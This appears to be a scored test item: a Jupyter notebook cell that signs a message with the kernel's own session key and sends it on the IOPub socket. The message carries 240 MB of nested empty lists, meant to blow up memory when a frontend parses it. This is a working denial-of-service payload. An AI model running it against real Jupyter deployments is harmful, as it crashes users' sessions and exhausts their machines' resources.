# ---
# jupyter:
#   corpus:
#     title: a display of 240 MB of empty lists
#     attempts: sends one signed message whose JSON takes gigabytes once it is read
#     points: {1a: 0, 2: 0, 3: 0}
#     flags: [ipython, network]
#     reference: false
# ---

# %% after="imports"
import hmac, hashlib, json, zmq
kernel = get_ipython().kernel
session = kernel.session
part = lambda x: json.dumps(x, default=lambda d: d.isoformat()).encode()
header = part(session.msg_header("display_data"))
parent = part({k: (v.isoformat() if hasattr(v, "isoformat") else v) for k, v in kernel.get_parent()["header"].items()})
n = 80_000_000
content = b'{"data": {"text/plain": "x", "a": [' + b"[]," * n + b'[]]}, "metadata": {}, "transient": {}}'
frames = [header, parent, b"{}", content]
mac = hmac.HMAC(session.key, digestmod=hashlib.sha256)
for f in frames:
    mac.update(f)
signature = mac.hexdigest().encode()
kernel.iopub_socket.send_multipart([b"display_data", b"<IDS|MSG>", signature, *frames])
print("sent", len(content))
